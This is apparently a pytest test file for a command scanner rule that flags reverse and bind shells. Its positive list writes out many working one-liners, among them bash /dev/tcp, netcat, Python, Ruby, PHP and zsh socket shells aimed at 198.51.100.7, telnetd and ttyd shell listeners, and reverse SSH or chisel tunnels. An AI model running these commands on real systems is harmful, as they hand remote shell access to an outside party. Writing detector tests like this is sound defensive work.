"""Shells that are handed over: by daemons, terminals in a browser, tunnels, sockets of other languages; and twins."""

import pytest
from checking import of_shell

RULE = "shell-reverse-shell"

HANDED_OVER = [
    "busybox telnetd -p 2323 -l /bin/sh -F &",
    "telnetd -F -p 23 -l /bin/bash",
    "nohup ttyd --writable --port 7681 bash &",
    "gotty -w bash",
    "websocketd --port=8080 bash",
    "tcpsvd 0.0.0.0 2323 /bin/sh -i",
    "systemd-socket-activate -l 9999 --inetd /bin/bash",
    "tmate -F",
    "gs-netcat -l -i -s secret",
    "ssh -f -N -R 2222:localhost:22 relay@198.51.100.7",
    "autossh -M 0 -N -R 2222:127.0.0.1:22 relay@198.51.100.7",
    "ngrok tcp 22",
    "bore local 22 --to bore.example.net",
    "cloudflared tunnel --url ssh://localhost:22",
    "chisel client 198.51.100.7:8080 R:2222:localhost:22",
    "xterm -display 198.51.100.7:1",
    "exec 0</dev/tcp/198.51.100.7/443 1>&0 2>&0; exec /bin/bash -i",
    "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.7 9000 && zsh -i <&$REPLY >&$REPLY'",
    'coproc SH { /bin/bash -i 2>&1; }; nc 198.51.100.7 4433 <&"${SH[0]}" >&"${SH[1]}"',
    "python3 - <<'E'\nimport socket, os, pty\ns = socket.create_connection(('198.51.100.7', 53))\n"
    "[os.dup2(s.fileno(), n) for n in range(3)]\npty.spawn('/bin/sh')\nE",
    "python3 <<'E'\nimport socket, subprocess\ns = socket.socket(); s.connect(('198.51.100.7', 1))\n"
    "while True:\n    subprocess.run(s.recv(99), shell=True)\nE",
    "ruby -rsocket -e 'c = TCPSocket.new(\"198.51.100.7\", 1); while l = c.gets; IO.popen(l) { |i| c.print i.read }; end'",
    'php -r \'$s = stream_socket_client("tcp://198.51.100.7:1"); proc_open("/bin/sh", [$s, $s, $s], $p);\'',
    'cat > /tmp/x.go <<\'E\'\nc, _ := net.Dial("tcp", "198.51.100.7:1")\ncmd := exec.Command("/bin/sh")\nE',
]
LEFT_ALONE = [
    "telnetd -F -p 23",
    "ttyd --version",
    "ssh -N -L 15432:pg:5432 ops@bastion.example.com",
    "ssh -N -R 8080:localhost:8080 ops@bastion.example.com",
    "ngrok http 8080",
    "cloudflared tunnel run web",
    "exec 3<>/dev/tcp/redis/6379; printf 'PING\\r\\n' >&3; head -n1 <&3",
    "xterm -display :0",
    'coproc W { ./worker; }; echo go >&"${W[1]}"',
    "python3 - <<'E'\nimport socket\ns = socket.create_connection(('pg', 5432)); print(s.getpeername())\nE",
    "python3 - <<'E'\nimport socket, subprocess\nprint(socket.gethostname())\nsubprocess.run(['systemctl', 'status'])\nE",
    "ruby -e 'puts `uptime`'",
    "php -r 'echo shell_exec(\"uptime\");'",
    'cat > main.go <<\'E\'\nconn, err := net.Dial("tcp", "pg:5432")\nE',
]


@pytest.mark.parametrize("script", HANDED_OVER)
def test_a_shell_that_is_handed_over_is_found(script: str) -> None:
    assert RULE in of_shell(script)


@pytest.mark.parametrize("script", LEFT_ALONE)
def test_connections_without_a_shell_are_left_alone(script: str) -> None:
    assert RULE not in of_shell(script)
